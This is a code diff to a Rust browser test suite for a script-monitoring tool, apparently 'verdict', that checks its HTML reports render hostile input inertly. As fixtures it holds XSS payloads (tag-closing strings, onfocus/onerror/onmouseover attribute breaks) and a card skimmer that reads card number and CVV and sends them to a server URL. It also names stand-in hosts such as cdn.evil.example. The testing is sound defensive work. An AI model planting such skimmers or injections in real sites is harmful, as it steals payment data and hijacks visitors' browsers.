@@ -1,4 +1,4 @@
-//! The page of `verdict scan --report` in a real browser, full of what attackers write.
+//! The pages of `verdict scan --report` and `verdict monitor report` in a real browser, full of what attackers write.
 
 #![allow(clippy::unwrap_used, reason = "what is not as expected fails the test")]
 
@@ -9,21 +9,34 @@ use std::path::Path;
 use std::time::Duration;
 use std::{fs, thread};
 
-use binary::{Folder, PLAIN, examples, run};
+use binary::{Folder, PLAIN, examples, run, run_on};
 use serde_json::{Value, json};
 use webdriver::{Browser, Server};
+
+/// Closes whatever a text may stand in.
+const CLOSING: &str = "</script></style></title></textarea></pre></template>-->";
+/// Ends an attribute and begins others.
+const ATTRIBUTE: &str = "\" autofocus onfocus=window.pwned=1 x=\"' onmouseover='window.pwned=1";
+
+/// An image that tells a server that it was loaded, and runs if it cannot be.
+fn image(server: &str, mark: &str) -> String {
+    format!("<img src={server}/{mark} onerror=window.pwned=1>")
+}
+
+/// A skimmer whose address is all of that.
+fn skimmer(server: &str) -> String {
+    format!(
+        "document.querySelector('#pay').addEventListener('click', function () {{\n\
+         var card = {{ cc_number: document.getElementById('cc_number').value, cvv: document.getElementById('cc_cid').value }};\n\
+         new Image().src = '{server}/mark-snippet{CLOSING}<script>window.pwned=1</script>{ATTRIBUTE}?d=' + btoa(JSON.stringify(card));\n}});"
+    )
+}
 
 /// Everything that could make a browser run or load something, in names, addresses, pages, snippets and errors.
 fn hostile_page(port: u16) -> (Folder, String) {
     let server = format!("http://127.0.0.1:{port}");
-    let image = |mark: &str| format!("<img src={server}/{mark} onerror=window.pwned=1>");
-    let attribute = "\" autofocus onfocus=window.pwned=1 x=\"' onmouseover='window.pwned=1";
-    let closing = "</script></style></title></textarea></pre></template>-->";
-    let skimmer = format!(
-        "document.querySelector('#pay').addEventListener('click', function () {{\n\
-         var card = {{ cc_number: document.getElementById('cc_number').value, cvv: document.getElementById('cc_cid').value }};\n\
-         new Image().src = '{server}/mark-snippet{closing}<script>window.pwned=1</script>{attribute}?d=' + btoa(JSON.stringify(card));\n}});"
-    );
+    let (closing, attribute, skimmer) = (CLOSING, ATTRIBUTE, skimmer(&server));
+    let image = |mark: &str| image(&server, mark);
     let entry = |url: &str, text: &str| {
         json!({"pageref": "p", "request": {"url": url},
             "response": {"content": {"mimeType": "text/javascript", "text": text}}})
@@ -53,6 +66,68 @@ fn hostile_page(port: u16) -> (Folder, String) {
     (folder, report)
 }
 
+/// The page of an inventory that remembers as much.
+fn hostile_inventory(port: u16) -> (Folder, String) {
+    let server = format!("http://127.0.0.1:{port}");
+    let hostile = |mark: &str| format!("{mark}{CLOSING}{}{ATTRIBUTE}", image(&server, mark));
+    let listed = format!("https://cdn.evil.example/{}", hostile("mark-listed"));
+    let clean = format!("{server}/{}", hostile("mark-clean"));
+    let script = |url: &str, page: &str, day: u32, text: &str| {
+        json!({"kind": "script", "url": url, "page_url": format!("https://shop.example/{}", hostile(page)),
+            "seen_at": format!("2026-11-{day}T08:00:00Z"), "text": text})
+    };
+    let skimmer = skimmer(&server);
+    let connection =
+        json!({"kind": "connection", "url": "wss://live.evil.example/x", "seen_at": "2026-11-22T08:00:00Z"});
+    let seen = [
+        script(&clean, "mark-first-page", 20, PLAIN),
+        script(&listed, "mark-first-page", 20, PLAIN),
+        script(&listed, "mark-page", 21, PLAIN),
+        script(&listed, "mark-page", 22, &skimmer),
+        connection,
+    ];
+    let said = json!({"url": listed, "justification": hostile("mark-reason"), "by": hostile("mark-by"), "approved": true});
+    let folder = Folder::new(&[("feed.txt", b"evil.example\n")]);
+    let (state, report) = (folder.at("state.db"), folder.at("report.html"));
+    let (feed, compiled) = (format!("{}:domains:phishing", folder.at("feed.txt")), folder.at("x.vfeed"));
+    assert_eq!(run(&["feeds", "build", "-o", &compiled, &feed]).status, Some(0));
+    let lines = |values: &[Value]| values.iter().map(|value| format!("{value}\n")).collect::<String>();
+    // Approved as it was before it changed.
+    for (command, input) in [
+        (["observe", "-"], lines(&seen[..3])),
+        (["justify", "--at=2026-11-21T09:00:00Z"], lines(&[said])),
+        (["observe", "-"], lines(&seen[3..])),
+        (["feeds", &compiled], String::new()),
+        (["report", &report], String::new()),
+    ] {
+        let arguments =
+            [&["monitor", "--state", &state, "--at", "2026-11-23T08:00:00Z"], &command[..]].concat();
+        let ran = run_on(&arguments, input.as_bytes());
+        assert_eq!(ran.status, Some(0), "{command:?}: {ran:?}");
+    }
+    (folder, report)
+}
+
+/// Opens a page, and everything on it, and looks whether any of the texts did something.
+fn runs_and_loads_nothing(browser: &Browser, server: &Server, report: &str, marks: &[&str]) {
+    browser.open(report);
+    browser.run("for (const item of document.querySelectorAll('details')) item.open = true;");
+    thread::sleep(Duration::from_millis(700));
+
+    assert_eq!(browser.run("return typeof window.pwned"), "undefined");
+    assert_eq!(server.requests(), 0, "the page loads nothing");
+    assert_eq!(browser.console(), [""; 0], "nothing had to be stopped");
+    // All of it is there, as text, and only our own elements are.
+    let text = browser.run("return document.body.textContent").as_str().unwrap().to_owned();
+    for mark in marks {
+        assert!(text.contains(mark), "{mark}");
+    }
+    assert!(text.contains("<img src=http://127.0.0.1"), "as it was written");
+    assert_eq!(count(browser, "script"), 1);
+    assert_eq!(count(browser, "img, iframe, object, embed, link, base, [src], [onerror], [onfocus]"), 0);
+    assert_eq!(count(browser, "[href]:not([href='#results']), [onmouseover], [autofocus]"), 0);
+}
+
 fn set(browser: &Browser, field: &str, value: &str) {
     browser.run(&format!(
         "const field = document.getElementById('filters').elements.namedItem({});
@@ -74,25 +149,11 @@ fn hostile_texts_run_nothing_and_load_nothing() {
     let Some(browser) = Browser::start() else { return };
     let server = Server::start();
     let (_folder, report) = hostile_page(server.port);
-    browser.open(&report);
-    browser.run("for (const item of document.querySelectorAll('details')) item.open = true;");
-    thread::sleep(Duration::from_millis(700));
-
-    assert_eq!(browser.run("return typeof window.pwned"), "undefined");
-    assert_eq!(server.requests(), 0, "the page loads nothing");
-    assert_eq!(browser.console(), [""; 0], "nothing had to be stopped");
-    // All of it is there, as text, and only our own elements are.
+    let marks =
+        ["mark-name", "mark-url", "mark-page", "mark-snippet", "mark-scheme", "mark-listed", "mark-error"];
+    runs_and_loads_nothing(&browser, &server, &report, &marks);
     let text = browser.run("return document.body.textContent").as_str().unwrap().to_owned();
-    for mark in
-        ["mark-name", "mark-url", "mark-page", "mark-snippet", "mark-scheme", "mark-listed", "mark-error"]
-    {
-        assert!(text.contains(mark), "{mark}");
-    }
-    assert!(text.contains("<img src=http://127.0.0.1"), "as it was written");
     assert!(text.contains("\\u{202e}mark-bidi\\u{2066}") && !text.contains('\u{202e}'));
-    assert_eq!(count(&browser, "script"), 1);
-    assert_eq!(count(&browser, "img, iframe, object, embed, link, base, [src], [onerror], [onfocus]"), 0);
-    assert_eq!(count(&browser, "[href]:not([href='#results']), [onmouseover], [autofocus]"), 0);
 
     // The policy is a wall of its own: what gets into the page by another way is stopped.
     browser.run(&format!(
@@ -116,6 +177,69 @@ fn hostile_texts_run_nothing_and_load_nothing() {
     thread::sleep(Duration::from_millis(300));
     assert_eq!(browser.run("return typeof window.pwned"), "number");
     assert!(server.requests() > 0);
+}
+
+#[test]
+fn the_page_of_an_inventory_shows_what_it_remembers_and_runs_nothing() {
+    let Some(browser) = Browser::start() else { return };
+    let server = Server::start();
+    let (_folder, report) = hostile_inventory(server.port);
+    let marks = [
+        "mark-listed",
+        "mark-clean",
+        "mark-first-page",
+        "mark-page",
+        "mark-reason",
+        "mark-by",
+        "mark-snippet",
+    ];
+    runs_and_loads_nothing(&browser, &server, &report, &marks);
+
+    let states = browser.run(
+        "return [...document.querySelectorAll('#scripts details.item')].map((item) => item.dataset.state)",
+    );
+    assert_eq!(states, json!(["malicious", "clean"]));
+    assert_eq!(count(&browser, "#connections details.item[data-state=malicious]"), 1);
+    let section = |heading: &str| {
+        browser.run(&format!(
+            "return [...document.querySelector('#scripts details.item').querySelectorAll('section')]
+                .find((section) => section.querySelector('h4').textContent === '{heading}').textContent"
+        ))
+    };
+    for (heading, wanted) in [
+        (
+            "Versions",
+            &["2026-11-22 08:00 UTC", "+ host", "127.0.0.1", "+ signal", "2026-11-20 08:00 UTC"][..],
+        ),
+        (
+            "Authorisation",
+            &["Its code changed since it was approved", "mark-reason", "mark-by", "2026-11-21 09:00 UTC"],
+        ),
+        ("Seen", &["2026-11-20 08:00 UTC", "2026-11-22 08:00 UTC", "mark-first-page", "mark-page", "Times3"]),
+        ("Threat feeds", &["evil.example", "Phishing"]),
+    ] {
+        let text = section(heading);
+        let text = text.as_str().unwrap();
+        for want in wanted {
+            assert!(text.contains(want), "{heading}: {want} in {text}");
+        }
+    }
+    assert_eq!(browser.run("return document.querySelector('.made time').dateTime"), "2026-11-23T08:00:00Z");
+    let model = browser.run("return document.querySelector('footer').textContent");
+    assert!(!model.as_str().unwrap().contains("Model none"), "the model that scored: {model}");
+
+    // What only an inventory knows can be filtered and sorted by.
+    set(&browser, "status", "infrequent");
+    assert_eq!(count(&browser, "#scripts details.item:not([hidden])"), 1);
+    set(&browser, "status", "active");
+    assert_eq!(count(&browser, "#scripts details.item[data-state=malicious]:not([hidden])"), 1);
+    assert_eq!(count(&browser, SHOWN), 1);
+    set(&browser, "status", "");
+    set(&browser, "sort", "last");
+    let last = browser.run(
+        "return [...document.querySelectorAll('#scripts details.item')].map((item) => item.dataset.last)",
+    );
+    assert_eq!(last, json!(["2026-11-22T08:00:00Z", "2026-11-20T08:00:00Z"]));
 }
 
 #[test]
